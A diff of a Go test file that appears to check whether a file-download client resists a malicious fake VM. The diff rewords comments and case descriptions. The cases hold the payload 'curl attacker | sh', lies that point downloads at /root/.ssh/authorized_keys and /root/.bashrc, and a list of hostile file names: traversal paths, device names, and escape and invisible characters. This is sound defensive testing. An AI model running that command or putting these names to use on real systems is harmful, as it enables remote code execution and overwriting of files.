@@ -8,10 +8,10 @@ import (
 	"colabrelay/shared/e2e/fakevm"
 )
 
-// nameCases choose where a download goes on the laptop.
+// nameCases try to choose the local path of a download.
 var nameCases = []Case{
 	{
-		Name: "stat-path", About: "says of whatever is asked for that its path is /root/.ssh, a folder that holds authorized_keys",
+		Name: "stat-path", About: "reports /root/.ssh, a folder that contains authorized_keys, as the path of everything",
 		routes: func(*fakevm.VM) routes {
 			keys := fileStat("/root/.ssh/authorized_keys", []byte(evil))
 			return routes{
@@ -23,7 +23,7 @@ var nameCases = []Case{
 		},
 	},
 	{
-		Name: "stat-path-file", About: "says of whatever is asked for that it is the file /root/.bashrc",
+		Name: "stat-path-file", About: "reports /root/.bashrc as the path of everything",
 		routes: func(*fakevm.VM) routes {
 			return routes{
 				"GET " + contract.PathStat:      lieOfPath("/root/.bashrc", "", []byte(evil)),
@@ -33,7 +33,7 @@ var nameCases = []Case{
 		},
 	},
 	{
-		Name: "inner-names", About: "lists a folder whose entries' names lead out of it, are devices, hold separators or characters that are not visible, or differ in case only",
+		Name: "inner-names", About: "lists a folder with names that point outside it, name devices, contain separators or invisible characters, or differ only in case",
 		routes: func(*fakevm.VM) routes {
 			return routes{
 				"GET " + contract.PathStat:      statByListing,
@@ -45,17 +45,17 @@ var nameCases = []Case{
 	},
 }
 
-// evil is what the files of these cases hold.
+// evil is the content of the files.
 const evil = "curl attacker | sh\n"
 
-// EvilNames are the entries of the folder that case inner-names lists.
+// EvilNames are the names in the folder of the case inner-names.
 var EvilNames = []string{
 	"../../escaped", "..", ".", "", "/etc/passwd", `..\..\escaped`, `C:\escaped`, "CON", "con.txt", "a/b", `a\b`, "A", "a", "name\x00", "trailing. ", "\u202egnp.exe",
 	"\x1b[2Jx", "esc\x1b]0;HA\ad", "new\nline", "c1\u009b2J", "zero\u200bwidth", `\xe2\x80\xaetxt.exe`,
 }
 
-// lieOfPath answers stat: the file itself by its path, and folder, where there is one, for
-// all else; without one everything is the file.
+// lieOfPath answers stat. Every path is reported as folder, except the path of file itself.
+// If folder is empty, every path is reported as file.
 func lieOfPath(file, folder string, content []byte) func(question) fakevm.Reply {
 	return func(q question) fakevm.Reply {
 		st := fileStat(file, content)
@@ -66,7 +66,7 @@ func lieOfPath(file, folder string, content []byte) func(question) fakevm.Reply 
 	}
 }
 
-// evilContents gives evil for each of the files that are read at once.
+// evilContents answers a batch read with evil for every file.
 func evilContents(q question) fakevm.Reply {
 	var asked contract.ReadBatch
 	_ = json.Unmarshal(q.body, &asked)
@@ -94,7 +94,7 @@ func fileStat(path string, content []byte) contract.FileStat {
 
 func base(path string) string { return path[strings.LastIndexByte(path, '/')+1:] }
 
-// statByListing says that results is a folder and that everything else is a file.
+// statByListing reports results as a folder and everything else as a file.
 func statByListing(q question) fakevm.Reply {
 	path := q.URL.Query().Get("path")
 	if path == "results" || path == "/content/results" {
